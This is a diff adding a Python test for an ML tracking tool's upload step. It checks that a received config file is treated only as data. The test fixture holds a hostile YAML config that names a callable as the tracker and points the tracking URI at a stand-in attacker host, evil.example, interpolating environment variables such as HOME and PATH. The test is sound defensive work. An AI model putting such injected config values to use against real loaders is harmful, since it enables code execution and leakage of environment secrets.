@@ -244,3 +244,21 @@ def test_paired_bootstrap_ratio_interval_over_positions():
     low, high = report.paired_ratio_ci(first, noisy, 95)
     assert low < high
     assert report.paired_ratio_ci(first, first.iloc[:50], 95) is None  # not the same test events
+
+
+def test_upload_never_runs_code_named_in_a_received_folder(tmp_path, monkeypatch):
+    """A hostile config_resolved.yaml naming a callable as the tracker, and an env interpolation, is only data:
+    nothing it names is instantiated, nothing is resolved from the uploader's environment, and a second upload is skipped."""
+    import yaml
+
+    run_dir = tmp_path / "received"
+    run_dir.mkdir()
+    called = tmp_path / "called"
+    (run_dir / "config_resolved.yaml").write_text(yaml.safe_dump({
+        "tracking": {"_target_": "pathlib.Path.touch", "self": str(called), "tracking_uri": "http://evil.example:5000/${oc.env:HOME}",
+                     "experiment_name": "${oc.env:PATH}"},
+        "paths": {"outputs_dir": str(tmp_path / "outputs")}}))
+    tracker = upload.tracker_for(run_dir, None, None)
+    assert not called.exists()
+    assert type(tracker).__name__ == "MlflowTracker" and "evil" not in str(tracker.tracking_uri)
+    assert tracker.experiment_name == "acoustlab"  # the interpolated name was not resolved
